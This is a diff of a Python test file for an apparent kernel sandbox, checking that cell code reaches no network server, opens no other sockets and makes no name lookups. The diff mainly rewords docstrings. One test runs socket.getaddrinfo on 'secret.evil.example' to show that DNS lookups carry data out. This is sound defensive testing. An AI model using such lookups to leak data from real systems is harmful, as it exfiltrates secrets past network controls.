@@ -1,4 +1,4 @@
-"""Attack 4 from inside of a kernel: code that wants to reach the network, or a server of this machine."""
+"""Attack 4 from a kernel: code that tries to reach the network, or a server on this machine."""
 
 import asyncio
 import socket
@@ -83,13 +83,13 @@ NATIVE = {
 
 
 def as_cell(code: str, **names: object) -> str:
-    """Return code without what indents it here, with what it needs to know."""
+    """Return dedented code with its values inserted."""
     return dedent(code).strip().format(**names)
 
 
 @pytest.mark.parametrize("command", WAYS)
 async def test_no_command_of_a_cell_reaches_a_server(kernel_stage: Stage, door: Door, command: str):
-    """That these commands arrive elsewhere is said of them in `test_network.py`."""
+    """`test_network.py` shows that these commands get through without the sandbox."""
     seen = await kernel_stage.cell(in_a_cell(command.format(port=door.port)))
 
     assert (door.visits, ENDED in seen.text) == (0, True)
@@ -179,7 +179,7 @@ async def test_code_makes_no_other_kind_of_socket(kernel_stage: Stage, family: s
 
 
 async def test_code_looks_up_no_name(kernel_stage: Stage):
-    """Names carry data out: whoever asks for `secret.evil.example` has sent it."""
+    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
     seen = await kernel_stage.cell("import socket; socket.getaddrinfo('secret.evil.example', 80)")
     alone = await kernel_stage.cell("import socket; print([name for _, name in socket.if_nameindex()])")
 
